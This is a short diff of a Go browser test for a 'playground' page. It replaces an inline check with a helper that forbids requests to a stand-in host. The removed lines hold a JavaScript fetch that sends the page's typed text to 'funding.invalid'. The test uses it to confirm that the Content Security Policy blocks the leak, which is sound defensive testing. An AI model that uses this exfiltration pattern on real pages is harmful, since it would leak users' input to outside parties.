@@ -98,9 +98,7 @@ func TestPlayground(t *testing.T) {
 			t.Errorf("the page asks for %s", r)
 		}
 	}
-	if got := eval[string](b, `fetch("https://funding.invalid/?" + encodeURIComponent(document.querySelector("#text").value)).then(() => "went out", (e) => e.name)`); got != "TypeError" || !strings.Contains(strings.Join(b.troubles, " "), "Content Security Policy") {
-		t.Errorf("what is typed can leave the page: %s, %q", got, b.troubles)
-	}
+	b.forbids("https://funding.invalid/")
 }
 
 // drop lets a file fall onto the page.
